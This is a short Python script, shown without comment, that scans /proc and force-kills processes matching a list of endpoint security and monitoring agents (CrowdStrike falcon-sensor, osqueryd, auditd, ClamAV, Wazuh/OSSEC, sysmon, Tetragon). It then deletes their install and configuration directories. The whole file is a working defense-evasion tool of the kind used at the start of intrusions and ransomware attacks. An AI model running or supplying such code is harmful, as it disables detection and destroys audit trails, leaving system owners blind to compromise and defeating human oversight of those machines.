import os
import shutil
import signal

BAD = ("falcon-sensor", "osqueryd", "auditd", "clamd", "wazuh-agentd", "ossec", "sysmon", "tetragon")

for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/comm") as f:
            name = f.read().strip()
    except FileNotFoundError:
        continue
    if any(name.startswith(b[:15]) for b in BAD):
        os.kill(int(pid), signal.SIGKILL)
        print("gone", name)
for d in ("/opt/CrowdStrike", "/var/ossec", "/etc/osquery"):
    shutil.rmtree(d, ignore_errors=True)
